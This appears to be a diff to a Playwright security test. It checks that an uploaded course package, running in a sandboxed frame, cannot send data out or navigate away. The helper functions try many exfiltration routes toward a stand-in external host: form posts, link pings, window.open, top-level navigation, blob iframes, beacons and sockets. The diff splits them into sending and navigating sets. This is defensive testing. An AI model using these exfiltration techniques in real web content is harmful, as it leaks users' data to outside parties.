@@ -43,7 +43,7 @@ async function open(email: string, course: string, button: string): Promise<{ pa
   return { page, package_: page.frames().find((frame) => frame.url().endsWith('index.html'))! };
 }
 
-/** Every way that a page has of sending something to somebody; runs in the page. */
+/** Every way that a page has of sending something to somebody without leaving; runs in the page. */
 function sendByEveryWay(elsewhere: string): void {
   const at = (name: string) => `http://${elsewhere}/${name}?data`;
   const quietly = (act: () => unknown) => {
@@ -87,13 +87,28 @@ function sendByEveryWay(elsewhere: string): void {
   put('iframe', {
     src: URL.createObjectURL(new Blob([`<img src="${at('blob-frame')}">`], { type: 'text/html' })),
   });
-  const form = put('form', { action: at('form'), method: 'post', target: '' }) as HTMLFormElement;
-  form.submit();
-  for (const target of ['_top', '_blank', '_parent']) {
-    const away_ = put('form', { action: at(`form${target}`), method: 'post', target }) as HTMLFormElement;
-    quietly(() => away_.submit());
-  }
-  const link = put('a', { href: at('ping-target'), ping: at('ping'), target: '_blank' });
+}
+
+/** Every way of going elsewhere with it, here or in another window; runs in the page. */
+function goByEveryWay(elsewhere: string): void {
+  const at = (name: string) => `http://${elsewhere}/${name}?data`;
+  const quietly = (act: () => unknown) => {
+    try {
+      act();
+    } catch {
+      // refused at once: as it should be
+    }
+  };
+  const form = (target: string) => {
+    const element = document.createElement('form');
+    Object.assign(element, { action: at(`form${target}`), method: 'post', target });
+    document.body.append(element);
+    quietly(() => element.submit());
+  };
+  for (const target of ['', '_top', '_blank', '_parent']) form(target);
+  const link = document.createElement('a');
+  Object.assign(link, { href: at('ping-target'), ping: at('ping'), target: '_blank' });
+  document.body.append(link);
   link.click();
   quietly(() => window.open(at('window')));
   quietly(() => (top!.location.href = at('top')));
@@ -215,6 +230,8 @@ test('a package that tries everything gets nothing', async () => {
 
   // Every way that a browser has of sending something to somebody.
   await package_.evaluate(sendByEveryWay, away);
+  await page.waitForTimeout(700);
+  await package_.evaluate(goByEveryWay, away);
   await page.waitForTimeout(1500);
   expect(page.url().startsWith(app)).toBe(true);
   expect(page.context().pages()).toHaveLength(1);
@@ -247,8 +264,13 @@ test('a package that tries everything gets nothing', async () => {
   await free.goto(`http://${away}/`);
   await free.evaluate(sendByEveryWay, away);
   const ways = () => reached.map((line) => /[/]([a-z_-]+)/.exec(line)?.[1]);
-  for (const way of ['beacon', 'socket', 'xhr', 'img', 'iframe', 'css', 'srcdoc', 'window', 'top'])
-    await expect.poll(ways, { timeout: 15_000 }).toContain(way);
+  const arrive = async (expected: string[]) => {
+    for (const way of expected) await expect.poll(ways, { timeout: 15_000 }).toContain(way);
+  };
+  await arrive(['beacon', 'socket', 'xhr', 'img', 'iframe', 'css', 'srcdoc']);
+  // Whatever is on its way is given up where a page leaves.
+  await free.evaluate(goByEveryWay, away);
+  await arrive(['window', 'top']);
   await free.context().close();
 
   // Its own report is stored, and the victim's is unchanged.
